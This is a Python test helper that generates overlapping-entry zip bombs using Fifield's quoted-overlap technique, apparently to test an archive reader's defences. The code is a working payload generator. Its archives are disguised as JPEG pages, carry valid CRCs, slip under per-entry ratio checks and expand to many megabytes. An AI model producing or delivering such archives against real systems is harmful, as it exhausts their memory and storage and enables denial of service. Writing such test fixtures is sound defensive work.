"""Overlapping-entry zip bombs (David Fifield's "quoted overlap", 2019), generated at test time.

Every entry's compressed data starts with a stored deflate block that quotes the next entry's local header,
then runs on into that entry's data, down to one shared kernel: the entries overlap, each one is small and
under any per-entry ratio, and together they inflate to ``count`` × the kernel. All CRCs and sizes are right,
so a reader that trusts the central directory inflates every byte.
"""

from __future__ import annotations

import struct
import zlib

_DOS_DATE = 0x21  # 1980-01-01


def _local_header(name: bytes, crc: int, csize: int, usize: int) -> bytes:
    return struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, _DOS_DATE, crc, csize, usize, len(name), 0) + name


def _central_header(name: bytes, crc: int, csize: int, usize: int, offset: int) -> bytes:
    return (
        struct.pack(
            "<4sHHHHHHIIIHHHHHII",
            b"PK\x01\x02",
            20,
            20,
            0,
            8,
            0,
            _DOS_DATE,
            crc,
            csize,
            usize,
            len(name),
            0,
            0,
            0,
            0,
            0,
            offset,
        )
        + name
    )


def _quote(block: bytes) -> bytes:
    """A non-final stored deflate block holding ``block`` verbatim."""
    return b"\x00" + struct.pack("<HH", len(block), len(block) ^ 0xFFFF) + block


def overlapping_zip(count: int, kernel_bytes: int = 1_000_000) -> bytes:
    """``count`` entries named page001.jpg… sharing one kernel of ``kernel_bytes`` (under the 1 MiB below which
    no ratio is judged); the archive is a few KB and inflates to about ``count`` × ``kernel_bytes``."""
    kernel_raw = b"\xff\xd8\xff\xe0" + b"\x00" * (kernel_bytes - 4)
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    kernel = comp.compress(kernel_raw) + comp.flush()
    names = [b"page%03d.jpg" % (i + 1) for i in range(count)]
    # Built from the last entry back: each entry's data is a stored block quoting the next header, then next data.
    data_after: list[bytes] = [b""] * count  # compressed data of entry i
    content_crc: list[int] = [0] * count
    content_len: list[int] = [0] * count
    headers: list[bytes] = [b""] * count
    data_after[count - 1] = kernel
    content_crc[count - 1] = zlib.crc32(kernel_raw)
    content_len[count - 1] = len(kernel_raw)
    headers[count - 1] = _local_header(names[-1], content_crc[-1], len(kernel), len(kernel_raw))
    for i in range(count - 2, -1, -1):
        nxt = headers[i + 1]
        data_after[i] = _quote(nxt) + data_after[i + 1]
        # crc32(nxt + content of i+1), combined without re-reading the kernel.
        content_crc[i] = _crc_concat(zlib.crc32(nxt), content_crc[i + 1], content_len[i + 1])
        content_len[i] = len(nxt) + content_len[i + 1]
        headers[i] = _local_header(names[i], content_crc[i], len(data_after[i]), content_len[i])
    body = headers[0] + data_after[0]
    offsets, pos = [], 0
    for i in range(count):
        offsets.append(pos)
        pos += len(headers[i]) + (len(_quote(headers[i + 1])) - len(headers[i + 1]) if i + 1 < count else 0)
    central = b"".join(
        _central_header(names[i], content_crc[i], len(data_after[i]), content_len[i], offsets[i]) for i in range(count)
    )
    eocd = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(central), len(body), 0)
    return body + central + eocd


def _crc_concat(crc_a: int, crc_b: int, len_b: int) -> int:
    """crc32(a + b) from crc32(a), crc32(b) and len(b) (zlib's crc32_combine, in Python)."""
    return zlib.crc32(b"\x00" * len_b, crc_a) ^ zlib.crc32(b"\x00" * len_b) ^ crc_b
